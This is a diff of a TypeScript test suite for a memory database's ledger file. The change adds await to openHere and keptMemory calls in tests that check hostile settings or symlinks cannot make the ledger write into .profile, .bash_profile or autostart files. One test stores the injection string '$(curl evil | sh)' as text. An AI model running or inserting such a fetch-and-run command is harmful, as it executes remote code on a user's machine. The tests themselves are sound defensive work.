@@ -53,7 +53,7 @@ describe('the ledger path that a memory file states', () => {
   it('lets it append to no file of the user: nothing is written where nobody agreed to', async () => {
     const profile = join(temporaryFolder(), '.profile')
     writeFileSync(profile, PROFILE)
-    const lcm = openHere(hostileMemory(profile))
+    const lcm = await openHere(hostileMemory(profile))
     expect(await compact(lcm, say(lcm, 'long', longTexts(60)))).toBeGreaterThan(0)
     expect(await ledgerFindings(lcm)).toEqual(['ledger_behind'])
     lcm.close()
@@ -61,9 +61,9 @@ describe('the ledger path that a memory file states', () => {
     expect(warned).toEqual([expect.stringContaining('lcm ledger agree')])
   })
 
-  it('makes no file where none is', () => {
+  it('makes no file where none is', async () => {
     const target = join(temporaryFolder(), 'autostart.desktop')
-    const lcm = openHere(hostileMemory(target))
+    const lcm = await openHere(hostileMemory(target))
     say(lcm, 's', ['one'])
     lcm.close()
     expect(existsSync(target)).toBe(false)
@@ -87,50 +87,50 @@ describe('the ledger path that a memory file states', () => {
     expect(readFileSync(profile, 'utf8')).toBe(PROFILE)
   })
 
-  it('writes into no file that is no ledger, although the settings name it', () => {
+  it('writes into no file that is no ledger, although the settings name it', async () => {
     const precious = join(temporaryFolder(), 'notes.txt')
     for (const text of ['a note without an end of line', 'a note\n', '{"actor":"me"}\n']) {
       writeFileSync(precious, text)
       const path = hostileMemory(precious, join(temporaryFolder(), 'lcm.db'))
       const settings = { ...readSettings({}), databasePath: path, ledgerPath: precious }
-      const lcm = openHere(path, { settings })
+      const lcm = await openHere(path, { settings })
       say(lcm, 's', ['one'])
       lcm.close()
       expect(readFileSync(precious, 'utf8')).toBe(text)
     }
   })
 
-  it('is another question for another memory that is put in the place of one that was agreed to', () => {
-    const { path, ledger } = keptMemory()
+  it('is another question for another memory that is put in the place of one that was agreed to', async () => {
+    const { path, ledger } = await keptMemory()
     const before = readFileSync(ledger)
     copyFileSync(hostileMemory(ledger, join(temporaryFolder(), 'other.db')), path)
-    const lcm = openHere(path)
+    const lcm = await openHere(path)
     say(lcm, 's', ['attack'])
     expect(ledgerState(lcm.read, lcm.ledgers)).toMatchObject({ problem: 'not_agreed' })
     lcm.close()
     expect(readFileSync(ledger)).toEqual(before)
   })
 
-  it('is not followed to another file that a link leads to since', () => {
-    const { path, ledger } = keptMemory()
+  it('is not followed to another file that a link leads to since', async () => {
+    const { path, ledger } = await keptMemory()
     const profile = join(dirname(path), '.profile')
     writeFileSync(profile, PROFILE.repeat(100))
     renameSync(ledger, `${ledger}.away`)
     symlinkSync(profile, ledger)
-    const lcm = openHere(path)
+    const lcm = await openHere(path)
     say(lcm, 's', ['attack'])
     expect(ledgerState(lcm.read, lcm.ledgers)).toMatchObject({ problem: 'foreign' })
     lcm.close()
     expect(readFileSync(profile, 'utf8')).toBe(PROFILE.repeat(100))
   })
 
-  it('is not begun through a link that leads to no file yet, however it came to stand there', () => {
+  it('is not begun through a link that leads to no file yet, however it came to stand there', async () => {
     const path = join(temporaryFolder(), 'lcm.db')
     const profile = join(dirname(path), '.bash_profile')
     const ledger = join(dirname(path), 'lcm.events.jsonl')
     symlinkSync(profile, ledger)
     openNative(path).close()
-    const lcm = openHere(path)
+    const lcm = await openHere(path)
     say(lcm, 's', ['$(curl evil | sh)'])
     lcm.close()
     const db = openNative(path)
@@ -147,7 +147,7 @@ describe('the ledger path that a memory file states', () => {
   it('is not even read by the checks where nobody agreed to it', async () => {
     // Reading a pipe would wait for ever; a path on another computer would be told who asks.
     const path = hostileMemory('/dev/zero', join(temporaryFolder(), 'lcm.db'))
-    const lcm = openHere(path)
+    const lcm = await openHere(path)
     const report = await ledgerFindings(lcm)
     lcm.close()
     expect(report).toEqual(['ledger_behind'])
@@ -156,33 +156,33 @@ describe('the ledger path that a memory file states', () => {
 
 describe('a copied memory', () => {
   it('writes nothing into the ledger of the original until its user agrees anew', async () => {
-    const { path, ledger } = keptMemory()
-    const original = openHere(path)
+    const { path, ledger } = await keptMemory()
+    const original = await openHere(path)
     const id = say(original, 'long', longTexts(60))
     original.close()
     const before = readFileSync(ledger)
     const copy = join(dirname(path), 'copy.db')
     copyFileSync(path, copy)
-    const lcm = openHere(copy)
+    const lcm = await openHere(copy)
     expect(await compact(lcm, id)).toBeGreaterThan(0)
     expect(await ledgerFindings(lcm)).toEqual(['ledger_behind'])
     const writer = new LedgerWriter(lcm.requireWrite('agree'), Date.now, lcm.ledgers)
     expect(() => writer.agree()).toThrow(/is the ledger of .*lcm\.db/)
     lcm.close()
     expect(readFileSync(ledger)).toEqual(before)
-    const again = openHere(path)
+    const again = await openHere(path)
     expect(await ledgerFindings(again)).toEqual([])
     again.close()
   })
 
   it('may take the ledger over when the original is gone, and goes on where it ended', async () => {
-    const { path, ledger } = keptMemory()
-    const original = openHere(path)
+    const { path, ledger } = await keptMemory()
+    const original = await openHere(path)
     say(original, 's', ['one'])
     original.close()
     const moved = join(dirname(path), 'moved.db')
     renameSync(path, moved)
-    const lcm = openHere(moved)
+    const lcm = await openHere(moved)
     say(lcm, 's', ['two'])
     expect(readFileSync(ledger, 'utf8')).not.toContain('"two"')
     lcm.close()
@@ -191,17 +191,17 @@ describe('a copied memory', () => {
     writer.agree()
     writer.drain()
     db.close()
-    const again = openHere(moved)
+    const again = await openHere(moved)
     expect(await ledgerFindings(again)).toEqual([])
     expect(readFileSync(ledger, 'utf8')).toContain('"two"')
     again.close()
   })
 
-  it('may not take over a ledger that goes on after what it has written, and leaves it to the original', () => {
-    const { path, ledger } = keptMemory()
+  it('may not take over a ledger that goes on after what it has written, and leaves it to the original', async () => {
+    const { path, ledger } = await keptMemory()
     const copy = join(dirname(path), 'copy.db')
     copyFileSync(path, copy)
-    const original = openHere(path)
+    const original = await openHere(path)
     say(original, 's', ['said after the copy was made'])
     original.close()
     renameSync(path, `${path}.away`)
@@ -210,18 +210,18 @@ describe('a copied memory', () => {
     expect(() => writer.agree()).toThrow(/goes on after what this memory has written/)
     db.close()
     renameSync(`${path}.away`, path)
-    const again = openHere(path)
+    const again = await openHere(path)
     say(again, 's', ['said by the original'])
     again.close()
     expect(readFileSync(ledger, 'utf8')).toContain('said by the original')
   })
 
-  it('is refused the ledger that the settings name while the original keeps it', () => {
-    const { path, ledger } = keptMemory()
+  it('is refused the ledger that the settings name while the original keeps it', async () => {
+    const { path, ledger } = await keptMemory()
     const copy = join(dirname(path), 'copy.db')
     copyFileSync(path, copy)
     const before = readFileSync(ledger)
-    const lcm = openHere(copy, { settings: { ...readSettings({}), databasePath: copy, ledgerPath: ledger } })
+    const lcm = await openHere(copy, { settings: { ...readSettings({}), databasePath: copy, ledgerPath: ledger } })
     say(lcm, 's', ['one'])
     expect(ledgerState(lcm.read, lcm.ledgers)).toMatchObject({ problem: 'foreign' })
     lcm.close()
